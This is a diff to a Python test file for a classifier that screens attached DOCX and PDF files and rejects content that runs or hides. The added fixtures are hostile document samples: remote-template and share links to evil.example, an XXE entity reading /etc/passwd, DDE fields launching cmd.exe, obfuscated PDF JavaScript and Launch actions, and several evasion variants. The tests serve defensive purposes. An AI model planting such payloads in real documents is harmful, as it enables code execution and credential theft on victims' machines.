@@ -1,5 +1,7 @@
 """What a file is that came with a comment: its bytes say it; what runs or hides is not taken."""
 
+import zlib
+
 import pytest
 
 from attached_files import (
@@ -13,12 +15,19 @@ from attached_files import (
 )
 from talqy.office.attached_form import AttachedForm, NotTaken, attached_form
 from talqy.office.attached_words import attached_words
+from word_files import TRANSITIONAL, a_word, paragraph
 
 RELATIONS = (
     '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
     '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
     'relationships/{kind}" Target="{where}" TargetMode="External"/></Relationships>'
 )
+
+
+def a_part(inside: str) -> bytes:
+    return f'<w:x xmlns:w="{TRANSITIONAL}">{inside}</w:x>'.encode()
+
+
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
 
 
@@ -26,6 +35,119 @@ def relations(kind: str, where: str) -> dict[str, bytes]:
     return {"word/_rels/settings.xml.rels": RELATIONS.format(kind=kind, where=where).encode()}
 
 
+def inner(kind: str, where: str) -> bytes:
+    said = RELATIONS.format(kind=kind, where=where)
+    return said.replace(' TargetMode="External"', "").encode()
+
+
+def field(*codes: str) -> str:
+    """Return a field whose code is cut in pieces; a piece that is mark-up is a field in it."""
+    marks = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
+    cut = (
+        one if one.startswith("<") else f"<w:r><w:instrText>{one}</w:instrText></w:r>"
+        for one in codes
+    )
+    return f"{marks('begin')}{''.join(cut)}{marks('separate')}{marks('end')}"
+
+
+def a_packed_pdf(said: bytes) -> bytes:
+    """Return a PDF one object of which is packed with a stream of objects."""
+    packed = zlib.compress(b"5 0 " + said)
+    head = f"4 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(packed)}>>"
+    stream = head.encode() + b"\nstream\n" + packed + b"\nendstream\nendobj\n"
+    return a_scan().replace(b"xref", stream + b"xref", 1)
+
+
+TYPES = (
+    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    b'<Default Extension="rels" '
+    b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+    b'<Default Extension="xml" ContentType="application/xml"/>'
+    b'<Override PartName="/word/document.xml" ContentType="application/'
+    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
+)
+PICTURES = b'<Default Extension="png" ContentType="image/png"/>'
+TEMPLATE = RELATIONS.format(kind="attachedTemplate", where="http://evil.example/x.dotm")
+OF_SETTINGS = "word/_rels/settings.xml.rels"
+
+
+def disguised(text: str, name: str = OF_SETTINGS) -> bytes:
+    return with_parts(a_letter(), {name: text.encode()})
+
+
+def with_file(name: str, data: bytes = b"MZ", kind: str = "") -> bytes:
+    """Return a letter with a file in it, of a type that is told or of none."""
+    told = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
+    types = TYPES.replace(b"</Types>", told) if kind else TYPES
+    return with_parts(a_letter(), {"[Content_Types].xml": types, name: data})
+
+
+DTD = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+IN_DISGUISE = {
+    "a reference": disguised(TEMPLATE.replace('"http', '"&#104;ttp')),
+    "a line": disguised(TEMPLATE.replace("Target=", "Target\n=\n")),
+    "wide letters": with_parts(
+        a_letter(),
+        {OF_SETTINGS: f'<?xml version="1.0" encoding="UTF-16"?>{TEMPLATE}'.encode("utf-16")},
+    ),
+    "other letters": disguised(f'<?xml version="1.0" encoding="UTF-7"?>{TEMPLATE}'),
+    "far behind": disguised(f"<!--{'x' * (1 << 20)}-->{TEMPLATE}"),
+    "an ending in capitals": disguised(TEMPLATE, "word/_rels/settings.xml.RELS"),
+    "a folder in capitals": disguised(TEMPLATE, "WORD/_RELS/settings.xml.rels"),
+    "a share": disguised(TEMPLATE.replace("http:", "file:").replace("/", "\\")),
+    "a share by slashes": disguised(TEMPLATE.replace("http:", "")),
+    "said to be inside": disguised(TEMPLATE.replace(' TargetMode="External"', "")),
+    "a template here": disguised(
+        TEMPLATE.replace("http://evil.example/x.dotm", "file:///D:/N.dotm")
+    ),
+    "a picture elsewhere": disguised(TEMPLATE.replace("attachedTemplate", "image")),
+    "a picture of a share, inside": with_parts(
+        a_letter(), {OF_SETTINGS: inner("image", "\\\\evil.example\\x.png")}
+    ),
+    "a part in pieces": with_file("word/_rels/settings.xml.rels/[0].piece", b"x", "image/png"),
+    "two of one name": disguised("<a/>", "word/DOCUMENT.xml"),
+    "a file of no type": with_file("word/embeddings/o.BIN"),
+    "an object": with_file("word/embeddings/o.ole", OLE, "image/png"),
+    "a program": with_file("word/embeddings/x.exe", b"MZ", "application/x-msdownload"),
+    "a workbook": with_file(
+        "word/embeddings/a.xlsm", a_letter(), "application/vnd.ms-excel.sheet.macroEnabled.12"
+    ),
+    "macros of another name": with_file("word/x.bin", OLE, "application/vnd.ms-office.vbaProject"),
+    "a page inside": with_file("word/c.html", b"<script>", "text/html"),
+    "a definition": disguised(f"{DTD}<a/>", "word/a.xml"),
+    "a definition, wide": with_parts(a_letter(), {"word/a.xml": f"{DTD}<a/>".encode("utf-16-be")}),
+    "half a part": disguised("<a>", "word/a.xml"),
+    "another document brought in": a_word('<w:altChunk r:id="r9"/>'),
+    "a control": a_word('<w:p><w:r><w:control r:id="r9"/></w:r></w:p>'),
+    "a film": a_word('<w:p><x:webVideoPr xmlns:x="x" embeddedHtml="&lt;script&gt;"/></w:p>'),
+    "an old drawing": a_word('<w:p><v:imagedata src="http://evil.example/x.png"/></w:p>'),
+    "DDE": a_word(paragraph(field('DDEAUTO c:\\\\cmd.exe "/k calc"'))),
+    "DDE in pieces": a_word(paragraph(field(" dde", "auto cmd.exe"))),
+    "DDE by another field": a_word(paragraph(field(field("QUOTE 68 68 69"), " cmd.exe"))),
+    "DDE that does not end": a_word(
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r></w:p>'
+    ),
+    "DDE in a part": with_parts(
+        a_letter(), {"word/footnotes.xml": a_part('<w:fldSimple w:instr="DDE x"/>')}
+    ),
+    "a picture by a field": a_word('<w:p><w:fldSimple w:instr="INCLUDEPICTURE x \\d"/></w:p>'),
+    "a code without a field": a_word("<w:p><w:r><w:instrText>PAGE</w:instrText></w:r></w:p>"),
+    "something before": b"PK\3\4" + a_letter(),
+    "something behind": a_letter() + b"<script>",
+}
+ACTIONS = [
+    "JavaScript",
+    "#4aavaScrip#74",
+    "Launch",
+    "SubmitForm",
+    "ImportData",
+    "GoToR",
+    "GoToE",
+    "EmbeddedFile",
+    "RichMedia",
+    "Rendition",
+    "XFA",
+]
 SOUND = {
     AttachedForm.PDF: a_scan(),
     AttachedForm.DOCX: a_letter(),
@@ -95,15 +217,68 @@ def test_what_runs_hides_or_is_another_thing_is_not_taken(name: str) -> None:
     assert attached_form(data) is why
 
 
+@pytest.mark.parametrize("where", ["https://adilet.zan.kz/", "jl:31561100.0", "#there"])
+def test_a_link_that_a_person_follows_is_no_harm(where: str) -> None:
+    data = with_parts(a_letter(), relations("hyperlink", where))
+    assert attached_form(data) is AttachedForm.DOCX
+
+
+@pytest.mark.parametrize("name", IN_DISGUISE)
+def test_no_disguise_helps(name: str) -> None:
+    assert attached_form(IN_DISGUISE[name]) in {NotTaken.RUNS, NotTaken.DAMAGED}
+
+
+@pytest.mark.parametrize("action", ACTIONS)
+@pytest.mark.parametrize("is_packed", [True, False])
+def test_no_action_of_a_pdf_is_taken_where_it_may_stand(action: str, *, is_packed: bool) -> None:
+    said = f"<</S /{action} /F (x)>>".encode()
+    data = (
+        a_packed_pdf(said) if is_packed else a_scan().replace(b"/Catalog", b"/Catalog /A " + said)
+    )
+    assert attached_form(data) is NotTaken.RUNS
+
+
+def test_a_pdf_whose_objects_are_packed_is_taken() -> None:
+    assert attached_form(a_packed_pdf(b"<</S /GoTo /D [3 0 R /Fit]>>")) is AttachedForm.PDF
+
+
 @pytest.mark.parametrize(
-    ("kind", "where"),
+    "said",
     [
-        ("hyperlink", "https://adilet.zan.kz/"),
-        ("attachedTemplate", "file:///D:/Normal.dotm"),
+        "/Filter /ASCIIHexDecode",
+        "/Filter [/FlateDecode /FlateDecode]",
+        "/Filter /FlateDecode /DecodeParms <</Predictor 12>>",
+        "/Filter 9 0 R",
+        "/Filter /ASCIIHexDecode /Filter /FlateDecode",
+        "/Filter /FlateDecode /F (elsewhere)",
+        "/X (5 0 obj <<) /#46irst 4 /Filter /LZWDecode",
     ],
 )
-def test_a_link_and_a_template_of_its_author_are_no_harm(kind: str, where: str) -> None:
-    data = with_parts(a_letter(), relations(kind, where))
+def test_a_pdf_that_cannot_be_looked_at_whole_is_not_taken(said: str) -> None:
+    data = a_packed_pdf(b"<</S /GoTo>>").replace(b"/Filter /FlateDecode", said.encode())
+    assert attached_form(data) is NotTaken.RUNS
+
+
+@pytest.mark.parametrize(
+    "code", ["PAGE", " TOC \\o 1-3 ", 'HYPERLINK "https://x.kz"', "= 1 + 2", "=SUM(ABOVE)"]
+)
+def test_fields_that_fetch_nothing_are_taken(code: str) -> None:
+    quoted = code.replace('"', "&quot;")
+    assert (
+        attached_form(a_word(f'<w:p><w:fldSimple w:instr="{quoted}"/></w:p>')) is AttachedForm.DOCX
+    )
+    assert attached_form(a_word(paragraph(field(code[:2], code[2:])))) is AttachedForm.DOCX
+
+
+def test_what_word_writes_of_itself_is_taken() -> None:
+    data = with_parts(
+        a_letter(),
+        {
+            "[Content_Types].xml": TYPES.replace(b"</Types>", PICTURES + b"</Types>"),
+            "word/_rels/document.xml.rels": inner("image", "media/Image%201.PNG"),
+            "word/media/image 1.png": a_png(),
+        },
+    )
     assert attached_form(data) is AttachedForm.DOCX
 
 
